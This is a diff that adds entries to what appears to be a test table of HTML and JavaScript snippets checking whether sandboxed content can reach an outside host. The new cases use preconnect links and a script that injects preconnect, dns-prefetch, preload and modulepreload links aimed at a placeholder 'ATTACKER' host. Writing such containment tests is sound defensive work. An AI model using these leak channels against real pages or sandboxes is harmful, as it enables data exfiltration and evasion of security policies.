@@ -650,6 +650,15 @@ BARE = {
     "top": ("<script></script><a class=go href='ATTACKER/t' target=_top>go</a>", False),
     "blank": ("<script></script><a class=go href='ATTACKER/t' target=_blank>go</a>", False),
     "prefetch": ("<script></script><link rel=prefetch href='ATTACKER/p'>", False),
+    "preconnect": ("<script></script><link rel=preconnect href='ATTACKER'>", False),
+    "preconnect by script": (
+        (
+            "<script>for (const rel of ['preconnect', 'dns-prefetch', 'preload', 'modulepreload'])"
+            "document.head.append(Object.assign(document.createElement('link'),"
+            "{rel, as: 'script', href: 'ATTACKER/c'}))</script>"
+        ),
+        False,
+    ),
     "speculation": (
         (
             "<script>const rules = document.createElement('script');"
